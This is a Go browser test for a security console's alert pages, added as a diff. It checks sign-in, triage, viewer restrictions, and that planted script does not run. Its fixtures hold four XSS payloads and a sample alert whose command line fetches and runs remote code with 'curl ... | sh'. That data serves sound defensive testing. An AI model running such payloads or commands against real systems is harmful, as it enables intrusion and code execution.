@@ -1,0 +1,369 @@
+package uitest
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"io"
+	"log/slog"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/chromedp"
+	"google.golang.org/protobuf/types/known/timestamppb"
+
+	"github.com/harrier-sec/harrier/api"
+	"github.com/harrier-sec/harrier/backend"
+	"github.com/harrier-sec/harrier/internal/testenv"
+	"github.com/harrier-sec/harrier/transport"
+)
+
+// screenshotsEnv names a directory (the repository's docs/) the test
+// saves its screenshots of the sign-in and the alert page into.
+const screenshotsEnv = "HARRIER_UI_SCREENSHOTS"
+
+const (
+	apiToken   = "ui-test-api-token-0123456789abcdef"
+	anaPass    = "analyst password 1"
+	vicPass    = "viewer password 12"
+	xssAlertID = "xss-alert"
+	shellID    = "shell-alert"
+)
+
+// Hostile strings in the places alert data comes from: each would set
+// window.__pwned or open a dialog if it ran.
+var (
+	xssArg   = `<script>window.__pwned="argv";alert(1)</script>`
+	xssFile  = `/tmp/<img src=x onerror="window.__pwned='file';alert(2)">.sh`
+	xssLabel = `"><svg onload="window.__pwned='label';alert(3)">`
+	xssPod   = `web-<iframe src="javascript:alert(4)"></iframe>`
+)
+
+func chromiumPath(t *testing.T) string {
+	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
+		if p, err := exec.LookPath(name); err == nil {
+			return p
+		}
+	}
+	t.Skip("no chromium on PATH: install it (`make deps` does, Debian's package chromium)")
+	return ""
+}
+
+// TestConsoleInBrowser signs in, triages an alert and reads the triage
+// back after a reload, checks a viewer is refused a change in the UI and
+// the API, and that HTML and script planted in alerts' command lines,
+// file names and pod labels do not run — against a real backend fed over
+// QUIC by a real transport client.
+func TestConsoleInBrowser(t *testing.T) {
+	chromium := chromiumPath(t)
+	base := startBackend(t)
+	addUser(t, base, "ana", "analyst", anaPass)
+	addUser(t, base, "vic", "viewer", vicPass)
+
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	opts := append(slices.Clone(chromedp.DefaultExecAllocatorOptions[:]), chromedp.ExecPath(chromium), chromedp.NoSandbox,
+		chromedp.Flag("disable-dev-shm-usage", true), chromedp.WindowSize(1280, 1000), chromedp.UserDataDir(t.TempDir()))
+	actx, cancelAlloc := chromedp.NewExecAllocator(ctx, opts...)
+	defer cancelAlloc()
+	bctx, cancelBrowser := chromedp.NewContext(actx)
+	defer cancelBrowser()
+	var dialogs atomic.Int32
+	if err := chromedp.Do(bctx); err != nil { // starts the browser and its tab
+		t.Fatalf("start chromium: %v", err)
+	}
+	go func() {
+		for _, err := range chromedp.Events(bctx, page.JavascriptDialogOpening) {
+			if err != nil {
+				return
+			}
+			dialogs.Add(1)
+			_, _ = chromedp.Call(bctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: false})
+		}
+	}()
+	do := func(what string, steps ...chromedp.Action[chromedp.Void]) {
+		t.Helper()
+		if err := chromedp.Do(bctx, steps...); err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+	}
+	text := func(sel string) string {
+		t.Helper()
+		s, err := chromedp.Run(bctx, chromedp.Text(chromedp.CSS(sel)))
+		if err != nil {
+			t.Fatalf("text of %s: %v", sel, err)
+		}
+		return s
+	}
+	notPwned := func(where string) {
+		t.Helper()
+		pwned, err := chromedp.Run(bctx, chromedp.Evaluate[string](`String(window.__pwned)`))
+		if err != nil {
+			t.Fatalf("read window.__pwned on %s: %v", where, err)
+		}
+		elems, err := chromedp.Run(bctx, chromedp.Evaluate[int](`document.querySelectorAll("main script, main img, main svg, main iframe").length`))
+		if err != nil {
+			t.Fatalf("count planted elements on %s: %v", where, err)
+		}
+		if pwned != "undefined" || elems != 0 || dialogs.Load() != 0 {
+			t.Errorf("%s: window.__pwned=%s, %d planted elements, %d dialogs: alert data ran", where, pwned, elems, dialogs.Load())
+		}
+	}
+	signIn := func(user, pw string, shot string) {
+		t.Helper()
+		do("sign in as "+user,
+			chromedp.Navigate(base+"/login"),
+			chromedp.WaitVisible(chromedp.ID("username")),
+			chromedp.SendKeys(chromedp.ID("username"), user),
+			chromedp.SendKeys(chromedp.ID("password"), pw))
+		if shot != "" {
+			screenshot(t, bctx, shot)
+		}
+		// The sign-in page has a main h1 too: wait for it to go first.
+		do("submit the sign-in", chromedp.Click(chromedp.ID("signin")), chromedp.WaitNotPresent(chromedp.ID("signin")),
+			chromedp.WaitVisible(chromedp.CSS("main h1")))
+		if h1 := text("main h1"); h1 != "Alerts" {
+			msg, _ := chromedp.Run(bctx, chromedp.Evaluate[string](`String(document.querySelector(".error")?.innerText)`))
+			t.Fatalf("after signing in as %s: page %q: %s", user, h1, msg)
+		}
+	}
+
+	start := time.Now()
+	signIn("ana", anaPass, "console-login.png")
+	notPwned("the alert list")
+
+	// The hostile alert: its strings are shown as text, nothing runs.
+	do("open the planted alert", chromedp.Navigate(base+"/alerts/"+xssAlertID), chromedp.WaitVisible(chromedp.ID("triage")))
+	notPwned("the planted alert's page")
+	body := text("main")
+	for _, s := range []string{xssArg, xssFile, xssLabel, xssPod} {
+		if !strings.Contains(body, s) {
+			t.Errorf("planted alert page does not show %q as text", s)
+		}
+	}
+
+	// Triage: state, assignee and comment, seen again after a reload.
+	do("set state and comment", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("triage-save")),
+		chromedp.SetValue(chromedp.ID("triage-state-select"), "in_progress"),
+		chromedp.SetValue(chromedp.ID("triage-assignee-select"), "ana"),
+		chromedp.SendKeys(chromedp.ID("triage-comment"), "Checked with the web team: <b>not</b> a test."),
+		chromedp.Click(chromedp.ID("triage-save")), chromedp.WaitVisible(chromedp.CSS("#triage .comment")))
+	do("reload the alert", chromedp.Reload(), chromedp.WaitVisible(chromedp.ID("triage")))
+	state, assignee, triage := text("#triage-state"), text("#triage-assignee"), text("#triage")
+	if state != "in_progress" || assignee != "ana" || !strings.Contains(triage, "Checked with the web team: <b>not</b> a test.") {
+		t.Errorf("after reload: state %q, assignee %q, triage part:\n%s", state, assignee, triage)
+	}
+	if !regexp.MustCompile(`ana\s+state\s+new\s+in_progress`).MatchString(triage) {
+		t.Errorf("history lacks ana's state change from new:\n%s", triage)
+	}
+	notPwned("the triaged alert's page")
+	screenshot(t, bctx, "console-alert-triage.png")
+
+	// A viewer: no form, and a change forced anyway is refused, by the
+	// page and by the API.
+	do("sign out", chromedp.Navigate(base+"/logout"), chromedp.WaitVisible(chromedp.ID("username")))
+	signIn("vic", vicPass, "")
+	do("open the alert as viewer", chromedp.Navigate(base+"/alerts/"+shellID), chromedp.WaitVisible(chromedp.ID("triage")))
+	hasForm, err := chromedp.Run(bctx, chromedp.Evaluate[bool](`document.getElementById("triage-save") !== null`))
+	if err != nil || hasForm || !strings.Contains(text("#triage"), "may read the triage but not change it") {
+		t.Errorf("viewer's alert page: form shown %v (%v):\n%s", hasForm, err, text("#triage"))
+	}
+	do("post a state change as viewer", chromedp.Evaluate[chromedp.Void](`(() => {
+		const f = document.createElement("form"); f.method = "post"; f.action = "/alerts/`+shellID+`/triage";
+		const i = document.createElement("input"); i.name = "state"; i.value = "resolved"; f.appendChild(i);
+		document.body.appendChild(f); f.submit(); })()`),
+		chromedp.WaitVisible(chromedp.CSS(".error")))
+	if refusal := text(".error"); !strings.Contains(refusal, "needs the role analyst") {
+		t.Errorf("viewer's form post: %q, want a refusal naming the role", refusal)
+	}
+	// The API with the viewer's browser session: the page's CSP lets no
+	// script fetch, so the request goes from here with the browser's
+	// cookie, which is HttpOnly and SameSite=Strict.
+	cookies, err := chromedp.Call(bctx, network.GetCookies, network.GetCookiesParams{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var session *network.Cookie
+	for _, c := range cookies.Cookies {
+		if c.Name == "harrier_session" {
+			session = c
+		}
+	}
+	if session == nil || !session.HTTPOnly || session.SameSite != network.CookieSameSiteStrict {
+		t.Fatalf("session cookie %+v: want HttpOnly and SameSite=Strict", session)
+	}
+	req, _ := http.NewRequest(http.MethodPost, base+"/api/v1/alerts/"+shellID+"/triage", strings.NewReader(`{"state":"resolved"}`))
+	req.Header.Set("Cookie", "harrier_session="+session.Value)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	refusal, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(refusal), "needs the role analyst") {
+		t.Errorf("viewer's API call: %d %s, want 403 naming the role", resp.StatusCode, refusal)
+	}
+	var got struct{ Triage backend.Triage }
+	apiGet(t, base, "/api/v1/alerts/"+shellID+"/triage", &got)
+	if got.Triage.State != "in_progress" {
+		t.Errorf("after the viewer's attempts the state is %q", got.Triage.State)
+	}
+	t.Logf("browser steps took %v", time.Since(start).Round(time.Millisecond))
+}
+
+func screenshot(t *testing.T, ctx context.Context, name string) {
+	t.Helper()
+	dir := os.Getenv(screenshotsEnv)
+	if dir == "" {
+		return
+	}
+	png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
+	if err != nil {
+		t.Fatalf("screenshot %s: %v", name, err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, name), png, 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// startBackend runs a backend with certificates as `harrier certs` makes
+// them and feeds it the test's alerts over QUIC from a transport client.
+func startBackend(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	pki := filepath.Join(dir, "pki")
+	if _, _, err := transport.InitCA(pki); err != nil {
+		t.Fatal(err)
+	}
+	if err := transport.IssueBackendCert(pki, []string{"127.0.0.1"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := transport.IssueAgentCert(pki, "node-1", "agent"); err != nil {
+		t.Fatal(err)
+	}
+	log := slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))
+	cfg := backend.FileConfig{DataDir: dir, Backend: backend.Config{APIAddr: "127.0.0.1:0", IngestAddr: "127.0.0.1:0", Token: apiToken}}.Resolved()
+	svc, err := backend.NewService(cfg, log)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() { done <- svc.Run(ctx) }()
+	t.Cleanup(func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("backend: %v", err)
+		}
+	})
+	clientTLS, err := transport.ClientTLS(filepath.Join(pki, "agent.crt"), filepath.Join(pki, "agent.key"), filepath.Join(pki, "ca.crt"), "127.0.0.1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	src := &spool{pending: testAlerts()}
+	cl, err := transport.NewClient(transport.ClientConfig{Addr: svc.IngestAddr().String(), TLS: clientTLS, AgentID: "node-1",
+		BackoffMin: 20 * time.Millisecond, BackoffMax: 200 * time.Millisecond, HeartbeatInterval: time.Hour, PollInterval: 20 * time.Millisecond}, src, log)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cctx, stop := context.WithCancel(context.Background())
+	clientDone := make(chan error, 1)
+	go func() { clientDone <- cl.Run(cctx) }()
+	testenv.WaitFor(t, 20*time.Second, "the agent's alerts acked", func() bool { return src.left() == 0 })
+	stop()
+	<-clientDone
+	return "http://" + svc.APIAddr().String()
+}
+
+func testAlerts() []*api.Record {
+	now := time.Now()
+	shell := &api.Alert{Id: shellID, DetectionId: "HAR-EXEC-002", Name: "Shell spawned by a web server", Severity: api.Severity_SEVERITY_HIGH,
+		FirstSeen: timestamppb.New(now.Add(-time.Minute)), LastSeen: timestamppb.New(now), Count: 1, Node: "node-1",
+		Summary:     "nginx (pid 4242) started /bin/sh -c 'curl http://203.0.113.9/x | sh' in shop/web-7d9f",
+		Description: "A web server process started a shell: the usual first step of a web shell or an exploited request handler.",
+		Container:   &api.Container{Id: "3f2a9c", Name: "web", PodName: "web-7d9f", PodNamespace: "shop", Image: "nginx:1.27"},
+		Process:     &api.Process{Tgid: 4243, Exe: "/bin/sh", Args: []string{"/bin/sh", "-c", "curl http://203.0.113.9/x | sh"}},
+		Mitre:       []*api.Mitre{{Tactic: "Execution", TechniqueId: "T1059.004", Technique: "Unix Shell"}}}
+	xssContainer := &api.Container{Id: "c0ffee", Name: xssPod, PodName: xssPod, PodNamespace: "shop",
+		Labels: map[string]string{"app": xssLabel, xssLabel: "key"}}
+	xss := &api.Alert{Id: xssAlertID, DetectionId: "HAR-FILE-001", Name: "Dropped " + xssArg, Severity: api.Severity_SEVERITY_CRITICAL,
+		FirstSeen: timestamppb.New(now), LastSeen: timestamppb.New(now), Count: 1, Node: "node-1",
+		Summary: "wrote " + xssFile + " from " + xssArg, Description: xssLabel, Remediation: xssArg,
+		Container: xssContainer, Tags: map[string]string{xssLabel: xssArg},
+		Process:  &api.Process{Tgid: 7, Exe: xssFile, Args: []string{"sh", "-c", xssArg}, Cwd: xssFile},
+		Ancestry: []*api.Ancestor{{Pid: 6, Exe: xssFile, Args: []string{xssArg}}},
+		Evidence: []*api.Event{{Kind: api.EventKind_EVENT_KIND_FILE_OPEN, Time: timestamppb.New(now), Node: "node-1", Container: xssContainer,
+			Process: &api.Process{Tgid: 7, Exe: xssFile, Args: []string{xssArg}},
+			Detail:  &api.Event_FileOpen{FileOpen: &api.FileOpen{Path: xssFile, Write: true, Create: true}}}}}
+	var recs []*api.Record
+	for i, a := range []*api.Alert{shell, xss} {
+		recs = append(recs, &api.Record{Seq: uint64(i + 1), Class: api.RecordClass_RECORD_CLASS_ALERT, Payload: &api.Record_Alert{Alert: a}})
+	}
+	return recs
+}
+
+// spool is an agent's spool in memory: records leave when acked.
+type spool struct {
+	mu      sync.Mutex
+	pending []*api.Record
+}
+
+func (s *spool) Pending(_ context.Context, maxRecords, _ int) ([]*api.Record, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return slices.Clone(s.pending[:min(maxRecords, len(s.pending))]), nil
+}
+
+func (s *spool) Acked(seqs []uint64) error {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.pending = slices.DeleteFunc(s.pending, func(r *api.Record) bool { return slices.Contains(seqs, r.GetSeq()) })
+	return nil
+}
+
+func (s *spool) left() int {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return len(s.pending)
+}
+
+func addUser(t *testing.T, base, name, role, password string) {
+	t.Helper()
+	body, _ := json.Marshal(map[string]string{"name": name, "role": role, "password": password})
+	req, _ := http.NewRequest(http.MethodPost, base+"/api/v1/users", bytes.NewReader(body))
+	req.Header.Set("Authorization", "Bearer "+apiToken)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusCreated {
+		b, _ := io.ReadAll(resp.Body)
+		t.Fatalf("add user %s: %d %s", name, resp.StatusCode, b)
+	}
+}
+
+func apiGet(t *testing.T, base, path string, out any) {
+	t.Helper()
+	req, _ := http.NewRequest(http.MethodGet, base+path, nil)
+	req.Header.Set("Authorization", "Bearer "+apiToken)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
+		t.Fatalf("GET %s: %v", path, err)
+	}
+}
